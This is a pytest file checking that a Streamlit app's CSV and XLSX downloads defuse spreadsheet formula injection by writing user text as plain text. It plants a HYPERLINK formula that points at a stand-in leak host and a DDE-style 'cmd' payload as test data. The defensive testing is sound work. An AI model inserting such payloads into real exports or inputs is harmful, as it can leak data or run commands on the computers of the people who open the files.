"""Every page's CSV/XLSX download, taken from the real page: user text that a spreadsheet would run as a formula
arrives as text (a leading apostrophe in CSV, a string cell in xlsx)."""
import csv
import io

import openpyxl
import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.orm import Session
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from data_access import audit

FORMULA = '=HYPERLINK("http://elsewhere.invalid/leak","点击")'


@pytest.fixture
def downloads(monkeypatch):
    """Files the page handed to Streamlit's media storage, by file name."""
    files: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def record(self, path_or_data, mimetype, kind, filename=None):
        if filename:
            files[filename] = path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    def record_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        if file_name:  # built when clicked: build it now, as the click would
            files[file_name] = data_callable()
        return original_deferred(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    original_deferred = MediaFileManager.add_deferred
    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    monkeypatch.setattr(MediaFileManager, "add_deferred", record_deferred)
    return files


@pytest.fixture
def planted(app_env):
    """Every project name and rule name starts with a formula."""
    engine = create_engine(f"sqlite:///{app_env}")
    with engine.begin() as connection:
        connection.execute(text("UPDATE projects SET name_zh = :f || name_zh, name_en = :f || name_en"), {"f": FORMULA})
        connection.execute(text("UPDATE alert_rules SET name_zh = :f || name_zh"), {"f": FORMULA})
        district = connection.execute(text(
            "SELECT r.id FROM regions r WHERE r.code = '410202'")).scalar_one()
    engine.dispose()
    return district


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _assert_defused(files: dict[str, bytes], name: str, planted_text: str) -> None:
    csv_cells = _csv_cells(files[f"{name}.csv"])
    assert any(cell.startswith("'" + planted_text) for cell in csv_cells)
    assert not [cell for cell in csv_cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    xlsx_cells = [cell for cell in _xlsx_cells(files[f"{name}.xlsx"]) if isinstance(cell.value, str)]
    assert not [cell.coordinate for cell in xlsx_cells if cell.data_type == "f"]
    assert any(cell.value.startswith(planted_text) and cell.data_type == "s" for cell in xlsx_cells)


@pytest.mark.usefixtures("planted")
def test_the_projects_download_writes_a_formula_in_a_project_name_as_text(logged_in, downloads):
    at = logged_in("leader", "views/projects.py")
    assert not at.exception
    _assert_defused(downloads, "projects", FORMULA)


def test_the_district_scorecard_download_writes_a_formula_in_a_project_name_as_text(logged_in, planted, downloads):
    at = logged_in("leader", "views/scorecards.py")
    at.query_params["region"] = str(planted)
    at.run()
    assert not at.exception
    _assert_defused(downloads, "district_projects", FORMULA)


@pytest.mark.usefixtures("planted")
def test_the_alerts_download_writes_a_formula_in_project_and_rule_names_as_text(logged_in, downloads):
    at = logged_in("leader", "views/alerts.py")
    assert not at.exception
    _assert_defused(downloads, "alerts", FORMULA)
    rows = list(csv.reader(io.StringIO(downloads["alerts.csv"].decode("utf-8-sig"), newline="")))
    rule = rows[0].index("规则")
    assert all(row[rule].startswith("'" + FORMULA) for row in rows[1:])


def test_the_what_if_download_built_on_click_writes_a_formula_in_a_project_code_as_text(logged_in, app_env, downloads):
    engine = create_engine(f"sqlite:///{app_env}")
    with engine.begin() as connection:  # its rows are labelled "code name"
        connection.execute(text("UPDATE projects SET code = :f || code"), {"f": FORMULA})
    engine.dispose()
    at = logged_in("leader", "views/whatif.py")
    assert not at.exception
    _assert_defused(downloads, "whatif_movers", FORMULA)


def test_the_audit_download_writes_planted_actor_names_and_entity_ids_as_text(app_env, logged_in, downloads):
    engine = create_engine(f"sqlite:///{app_env}")
    with Session(engine) as session, session.begin():  # text that reached the log by any path (once: the login form)
        audit.append(session, actor=None, actor_name=FORMULA, action="auth.failure", entity="user",
                     entity_id="-1+cmd|' /C calc'!A0")
    engine.dispose()
    at = logged_in("admin", "views/audit.py")
    assert not at.exception
    _assert_defused(downloads, "audit_log", FORMULA)
    assert "'-1+cmd|' /C calc'!A0" in _csv_cells(downloads["audit_log.csv"])
